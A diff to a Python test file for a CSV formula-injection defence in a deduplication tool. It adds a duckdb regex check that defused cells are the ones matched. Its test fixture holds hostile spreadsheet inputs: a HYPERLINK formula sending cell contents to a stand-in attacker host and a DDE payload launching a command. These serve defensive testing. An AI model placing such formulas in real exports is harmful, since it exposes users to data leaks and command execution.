@@ -5,12 +5,13 @@ from __future__ import annotations
 import io
 from pathlib import Path
 
+import duckdb
 import pandas as pd
 import pytest
 from conftest import make_crawl, write_jsonl
 
 from neardup.cli import main
-from neardup.csvsafe import FORMULA_TRIGGERS, defuse_formulas, restore_formulas, to_csv
+from neardup.csvsafe import DEFUSED_PATTERN, FORMULA_TRIGGERS, defuse_formulas, to_csv
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
             "\t=1+1", "\r=1+1"]
@@ -27,7 +28,10 @@ def test_text_cells_that_start_a_formula_get_a_quote() -> None:
     back = pd.read_csv(io.StringIO(to_csv(df)))
     assert back["score"].tolist() == df["score"].tolist()
     assert all(not str(v).startswith(FORMULA_TRIGGERS) for v in back["text"].dropna())
-    assert restore_formulas(back["text"]).tolist()[:7] == [*FORMULAS, "plain"]
+    # the pattern import_labels removes the quote by matches exactly the defused cells
+    matches = duckdb.execute("SELECT regexp_matches(t, ?) FROM (SELECT unnest(?) AS t)",
+                             [DEFUSED_PATTERN, [*back["text"].fillna("").tolist(), "'plain", "'a=b"]]).fetchall()
+    assert [m for (m,) in matches] == [True] * 6 + [False] * 5
 
 
 def test_a_carriage_return_in_a_cell_keeps_its_row() -> None:
